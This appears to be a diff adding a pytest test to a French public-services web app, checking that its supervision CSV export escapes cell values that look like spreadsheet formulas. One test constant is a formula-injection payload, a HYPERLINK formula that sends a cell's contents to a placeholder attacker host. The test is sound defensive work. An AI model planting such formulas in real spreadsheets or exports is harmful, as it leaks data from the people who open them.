@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 
 import pytest
@@ -21,8 +22,12 @@ from tests.factories import make_account, make_agent, make_service, make_supervi
 from tests.procedures.flows import family_of, open_task
 from tests.procedures.test_supervision import paris, run_scenario
 from tests.web.agents import sign_in_agent
-from tests.web.test_auth import log_in
+from tests.web.test_auth import csrf_token, log_in
 from web.runtime import runtime
+
+SERVICE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
+TITLE_FORMULA = "@SUM(1+1)"
+STEP_FORMULA = "-2+3"
 
 
 @pytest.fixture
@@ -155,3 +160,61 @@ def test_a_supervisor_sees_only_the_services_it_supervises(
     assert client.get(f"/agent/supervision?service={petite_enfance.id}").status_code == 200
     for query in ("service=abc", "semaines=0", "semaines=53", "semaines=x"):
         assert client.get(f"/agent/supervision?{query}").status_code == 400
+
+
+@pytest.fixture
+def formula_names(
+    app: Flask,
+    db_session: Session,
+    clock: FrozenClock,
+    petite_enfance: Service,
+    global_admin: Account,
+) -> list[Demande]:
+    """The scenario on a crèche procedure whose title and check step an administrator named
+    like formulas, in a service the administrator renamed like one through the admin pages."""
+    admin = app.test_client()
+    assert sign_in_agent(admin, global_admin).status_code == 302
+    path = f"/admin/services/{petite_enfance.id}/renommer"
+    token = csrf_token(admin, path)
+    renamed = admin.post(path, data={"csrf_token": token, "name": SERVICE_FORMULA})
+    assert renamed.status_code == 302
+    definition, bpmn = catalogue.read_built_in("creche")
+    named = bpmn.replace(b'name="V\xc3\xa9rifier la compl\xc3\xa9tude du dossier"',
+                         f'name="{STEP_FORMULA}"'.encode())  # fmt: skip
+    assert named != bpmn
+    catalogue.publish(
+        db_session, clock, dataclasses.replace(definition, title=TITLE_FORMULA), named, None
+    )
+    db_session.commit()
+    vault = runtime(app).vault
+    foyer = make_foyer(db_session, clock, "Martin")
+    worker = make_agent(db_session, clock, petite_enfance)
+    agent = AgentActor(worker.id, frozenset({petite_enfance.id}))
+    ctx = EngineContext(clock=clock, vault=vault)
+    return run_scenario(db_session, ctx, family_of(db_session, clock, foyer), agent, vault, foyer)
+
+
+def test_names_that_look_like_formulas_are_exported_as_text_and_figures_as_numbers(
+    client: FlaskClient,
+    db_session: Session,
+    clock: FrozenClock,
+    supervisor: Account,
+    formula_names: list[Demande],
+) -> None:
+    clock.current = paris(2026, 9, 8, 14)
+    signed_in(client, supervisor)
+
+    response = client.get("/agent/supervision.csv?semaines=2")
+
+    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")), delimiter=";"))
+    assert ["Services", "", "", "", "'" + SERVICE_FORMULA] in rows
+    assert [
+        "Tâches ouvertes par étape", "'" + TITLE_FORMULA, "'" + STEP_FORMULA, "À prendre", "1",
+    ] in rows  # fmt: skip
+    assert [
+        "Tâche en retard", "'" + TITLE_FORMULA, "'" + STEP_FORMULA,
+        str(formula_names[2].number), "-1,0",
+    ] in rows  # fmt: skip
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
+    assert [cell for cell in cells if cell.startswith("-")] == ["-1,0"]  # a number, left as one
